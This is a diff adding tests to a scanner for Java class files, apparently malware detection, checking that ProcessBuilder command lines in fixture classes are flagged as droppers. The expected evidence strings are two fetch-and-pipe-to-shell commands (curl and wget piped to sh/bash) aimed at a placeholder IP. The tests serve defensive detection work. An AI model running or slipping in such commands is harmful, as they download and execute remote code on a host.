@@ -298,3 +298,16 @@ describe.skipIf(!JDK)('script evaluation', () => {
     expect(g?.severity).toBe('low');
   });
 });
+
+describe.skipIf(!JDK)('command lines through collections', () => {
+  it('JAVA-001 reads ProcessBuilder(List.of(...)) command lines', async () => {
+    const r = await jar(['fx/listcmd']);
+    const f = r.rule('JAVA-001').find((x) => x.file === 'fx/listcmd/L.class');
+    expect(f?.category).toBe('dropper');
+    expect(f?.evidence?.command).toBe('sh -c curl -s http://192.0.2.1/l | sh');
+    expect(r.verdict.verdict).toBe('malicious');
+    // an ArrayList is not modelled: the method's own dangerous command line is reported
+    const a = r.rule('JAVA-001').find((x) => x.file === 'fx/listcmd/A.class');
+    expect(a?.evidence?.command).toBe('wget -qO- http://192.0.2.1/a | bash');
+  });
+});
